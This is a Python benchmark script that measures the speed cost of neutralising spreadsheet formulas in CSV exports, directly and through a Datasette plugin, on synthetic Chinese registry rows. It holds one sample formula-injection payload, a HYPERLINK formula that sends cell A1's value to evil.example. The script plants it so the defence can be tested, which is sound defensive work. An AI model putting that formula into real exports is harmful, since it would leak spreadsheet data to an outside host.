"""What making CSV safe for spreadsheets costs (registry.core.spreadsheet).

    .venv/bin/python bench/csv_bench.py [--rows 100000] [--hostile-every 100]

Prints figures, never asserts. Each is given against a baseline measured in
the same run on the same machine, on the same synthetic rows (24 columns of
registry-like text: Chinese names, dates, codes, JSON, quoted fields; one row
in ``--hostile-every`` carries a formula):

1. ``registry.publish.export.csv_bom`` (the downloads and ``.csvbom``), every
   cell through ``safe_cell``, against the same rows written by ``csv.writer``
   alone;
2. Datasette's ``.csv?_stream=on`` of the whole table through the plugin
   (its ``asgi_wrapper`` rewrites the stream with ``SafeCsvStream``) against
   Datasette without the plugin. Each Datasette runs in a process of its own:
   Datasette registers a plugins directory's modules in one process-wide
   plugin manager.
"""

from __future__ import annotations

import argparse
import asyncio
import csv
import io
import random
import sqlite3
import subprocess
import sys
import tempfile
import time
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))

from registry.publish import export

WORDS = ["苏州精密机械有限公司", "数控机床的设计和制造", "SZ-100", "2024-01-01", "x,y", 'a"b\nc', None, 5,
         "SZZZ-2024-CQC-00001", '{"innovation": 88, "quality": 91}', "9a0b1c2d3e4f5a6b"]
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
COLUMNS = 24


def make_rows(n, hostile_every):
    rng = random.Random(1)
    rows = [[i, *(rng.choice(WORDS) for _ in range(COLUMNS - 1))] for i in range(n)]
    for row in rows[::hostile_every]:
        row[5] = HOSTILE
    return rows


def plain_csv(header, rows):
    buf = io.StringIO()
    buf.write(export.BOM)
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerow(header)
    for row in rows:
        writer.writerow(["" if v is None else v for v in row])
    return buf.getvalue()


def best_of(fn, repeat=5):
    best = None
    for _ in range(repeat):
        start = time.perf_counter()
        fn()
        took = time.perf_counter() - start
        best = took if best is None else min(best, took)
    return best


def datasette_stream(db, plugins_dir):
    """Seconds, bytes and quoted cells of the best of 3 ``.csv?_stream=on`` (run in a child process)."""
    from datasette.app import Datasette

    async def run():
        ds = Datasette(immutables=[db], plugins_dir=plugins_dir or None, settings={"max_csv_mb": 0})
        best, body = None, b""
        for _ in range(3):
            start = time.perf_counter()
            body = (await ds.client.get(f"/{Path(db).stem}/t.csv?_stream=on")).content
            took = time.perf_counter() - start
            best = took if best is None else min(best, took)
        return best, len(body), body.count(b"'" + HOSTILE[:10].encode())
    return asyncio.run(run())


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--rows", type=int, default=100_000)
    parser.add_argument("--hostile-every", type=int, default=100)
    parser.add_argument("--child", nargs=2, metavar=("DB", "PLUGINS_DIR"), help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.child:
        took, size, quoted = datasette_stream(*args.child)
        print(f"{took} {size} {quoted}")
        return

    rows = make_rows(args.rows, args.hostile_every)
    header = [f"c{i}" for i in range(COLUMNS)]
    cells = args.rows * COLUMNS
    base = best_of(lambda: plain_csv(header, rows))
    safe = best_of(lambda: export.csv_bom(header, rows))
    print(f"1. csv_bom, {args.rows:,} rows x {COLUMNS} columns: {safe:.2f} s with the rule, "
          f"{base:.2f} s csv.writer alone: ×{safe / base:.2f}, "
          f"{(safe - base) / cells * 1e9:.0f} ns a cell")

    with tempfile.TemporaryDirectory() as tmp:
        db = Path(tmp) / "big.db"
        conn = sqlite3.connect(db)
        conn.execute("create table t (id integer primary key, "
                     + ", ".join(f"c{i} text" for i in range(1, COLUMNS)) + ")")
        conn.executemany(f"insert into t values ({', '.join('?' * COLUMNS)})", rows)
        conn.commit()
        conn.close()
        figures = {}
        for name, plugins in (("Datasette alone", ""), ("with the plugin", str(REPO / "plugins" / "datasette"))):
            out = subprocess.run([sys.executable, __file__, "--child", str(db), plugins],
                                 capture_output=True, text=True, check=True).stdout.split()
            figures[name] = (float(out[0]), int(out[1]), int(out[2]))
        (alone, size, _), (plugin, _size, quoted) = figures.values()
        print(f"2. Datasette .csv?_stream=on, {size / 1e6:.1f} MB: {plugin:.2f} s with the plugin "
              f"({size / 1e6 / plugin:.1f} MB/s, {quoted:,} cells quoted), {alone:.2f} s Datasette alone "
              f"({size / 1e6 / alone:.1f} MB/s): ×{plugin / alone:.2f}")


if __name__ == "__main__":
    main()
